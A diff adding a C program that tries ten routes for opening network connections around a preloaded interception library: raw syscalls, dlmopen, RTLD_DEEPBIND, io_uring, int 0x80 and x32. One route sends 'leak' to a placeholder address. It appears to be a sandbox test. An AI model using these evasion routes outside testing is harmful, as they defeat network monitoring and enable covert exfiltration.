@@ -1,0 +1,195 @@
+// SPDX-License-Identifier: MIT
+// bypass WAY [ADDRESS [PORT]]: a dynamic program whose connect does not pass the preloaded library. Prints "went" or the
+// name of the error; `bypass` also is the plugin that it loads.
+#include <arpa/inet.h>
+#include <dlfcn.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+typedef int connect_call(int, const struct sockaddr *, socklen_t);
+
+static struct sockaddr_in to = {.sin_family = AF_INET};
+
+static int tcp(void)
+{
+	return socket(AF_INET, SOCK_STREAM, 0);
+}
+
+#ifdef __x86_64__
+static long raw(long nr, long a, long b, long c, long d, long e, long f)
+{
+	register long r10 __asm__("r10") = d;
+	register long r8 __asm__("r8") = e;
+	register long r9 __asm__("r9") = f;
+	long ret;
+
+	__asm__ volatile("syscall"
+			 : "=a"(ret)
+			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
+			 : "rcx", "r11", "memory");
+	return ret;
+}
+#else
+static long raw(long nr, long a, long b, long c, long d, long e, long f)
+{
+	register long x8 __asm__("x8") = nr;
+	register long x0 __asm__("x0") = a;
+	register long x1 __asm__("x1") = b;
+	register long x2 __asm__("x2") = c;
+	register long x3 __asm__("x3") = d;
+	register long x4 __asm__("x4") = e;
+	register long x5 __asm__("x5") = f;
+
+	__asm__ volatile("svc 0"
+			 : "+r"(x0)
+			 : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5)
+			 : "memory", "cc");
+	return x0;
+}
+#endif
+
+static long result(long r)
+{
+	if (r < 0) {
+		errno = (int)-r;
+		return -1;
+	}
+	return r;
+}
+
+static long by_inline(void)
+{
+	return result(raw(SYS_connect, tcp(), (long)&to, sizeof(to), 0, 0, 0));
+}
+
+static long by_inline_sendto(void)
+{
+	return result(raw(SYS_sendto, socket(AF_INET, SOCK_DGRAM, 0), (long)"leak", 4, 0, (long)&to,
+			  sizeof(to)));
+}
+
+static long by_inline_raw_socket(void)
+{
+	int fd = (int)raw(SYS_socket, AF_INET, SOCK_RAW, IPPROTO_ICMP, 0, 0, 0);
+
+	return fd < 0 ? result(fd)
+		      : result(raw(SYS_sendto, fd, (long)"\10\0\367\377\0\0\0\0", 8, 0, (long)&to,
+				   sizeof(to)));
+}
+
+static long by_libc_handle(void)
+{
+	connect_call *c = (connect_call *)dlsym(dlopen("libc.so.6", RTLD_NOW), "connect");
+
+	return c(tcp(), (struct sockaddr *)&to, sizeof(to));
+}
+
+static long by_dlmopen(void)
+{
+	void *libc = dlmopen(LM_ID_NEWLM, "libc.so.6", RTLD_NOW);
+	connect_call *c = libc ? (connect_call *)dlsym(libc, "connect") : NULL;
+	int *(*own_errno)(void) = libc ? (int *(*)(void))dlsym(libc, "__errno_location") : NULL;
+	int r = c ? c(tcp(), (struct sockaddr *)&to, sizeof(to)) : -1;
+
+	if (r < 0 && own_errno)
+		errno = *own_errno();
+	return r;
+}
+
+static long by_deepbind(void)
+{
+	void *plugin = dlopen(getenv("PLUGIN"), RTLD_NOW | RTLD_DEEPBIND);
+	connect_call *c = plugin ? (connect_call *)dlsym(plugin, "plugin_connect") : NULL;
+
+	return c ? c(tcp(), (struct sockaddr *)&to, sizeof(to)) : -1;
+}
+
+static long by_io_uring(void)
+{
+	char params[256] = {0};
+
+	return result(raw(425, 8, (long)params, 0, 0, 0, 0));
+}
+
+#ifdef __x86_64__
+static long call_32(long nr, long a, long b, long c)
+{
+	long ret;
+
+	__asm__ volatile("int $0x80"
+			 : "=a"(ret)
+			 : "a"(nr), "b"(a), "c"(b), "d"(c)
+			 : "memory", "r8", "r9", "r10", "r11");
+	return ret;
+}
+
+/* i386 has 32 bits for an address. */
+static void *low_copy(void)
+{
+	void *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
+			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+
+	return memcpy(low, &to, sizeof(to));
+}
+
+static long by_int80(void)
+{
+	return result(call_32(362, tcp(), (long)low_copy(), sizeof(to)));
+}
+
+static long by_int80_socketcall(void)
+{
+	uint32_t *low = low_copy();
+
+	low[64] = (uint32_t)tcp();
+	low[65] = (uint32_t)(uintptr_t)low;
+	low[66] = sizeof(to);
+	return result(call_32(102, 3, (long)&low[64], 0));
+}
+
+static long by_x32(void)
+{
+	return result(raw(0x40000000 | SYS_connect, tcp(), (long)&to, sizeof(to), 0, 0, 0));
+}
+#endif
+
+static const struct {
+	const char *name;
+	long (*run)(void);
+} ways[] = {
+	{"inline", by_inline},
+	{"inline-sendto", by_inline_sendto},
+	{"inline-raw", by_inline_raw_socket},
+	{"libc-handle", by_libc_handle},
+	{"dlmopen", by_dlmopen},
+	{"deepbind", by_deepbind},
+	{"io-uring", by_io_uring},
+#ifdef __x86_64__
+	{"int80", by_int80},
+	{"int80-socketcall", by_int80_socketcall},
+	{"x32", by_x32},
+#endif
+};
+
+int main(int argc, char **argv)
+{
+	to.sin_addr.s_addr = inet_addr(argc > 2 ? argv[2] : "203.0.113.80");
+	to.sin_port = htons(argc > 3 ? atoi(argv[3]) : 80);
+	for (size_t i = 0; argc > 1 && i < sizeof(ways) / sizeof(ways[0]); i++)
+		if (!strcmp(ways[i].name, argv[1])) {
+			long r = ways[i].run();
+
+			puts(r >= 0 ? "went" : strerrorname_np(errno));
+			return r < 0;
+		}
+	puts("usage: bypass WAY [ADDRESS [PORT]]");
+	return 2;
+}
